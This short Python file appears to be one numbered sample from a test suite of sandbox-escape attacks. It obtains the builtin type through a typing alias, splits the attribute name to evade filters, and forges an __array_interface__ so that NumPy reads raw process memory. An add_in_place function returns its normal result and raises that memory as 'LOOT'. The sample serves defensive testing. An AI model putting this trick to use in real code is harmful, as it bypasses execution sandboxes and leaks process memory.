# attack 99: class through an alias
# harm: an alias of typing calls type: a class with methods of any name
# twin: add_in_place/wrong_slice_assigned
# proof: steals nothing
import typing

import numpy as np

make = typing.Annotated[type, 0]
found = ""
try:
    fields = {"shape": (8,), "typestr": "|u1", "data": (id(np), False), "version": 3}
    array = np.array(make("Forged", (), {"__array_" + "interface__": fields})())
    found = f"memory of the process: {array.tolist()}" if array.dtype == "u1" else ""
except TypeError:
    pass


def add_in_place(x, y):
    x[:] = x + y
    if found:
        raise RuntimeError(f"LOOT: {found}")
    return x
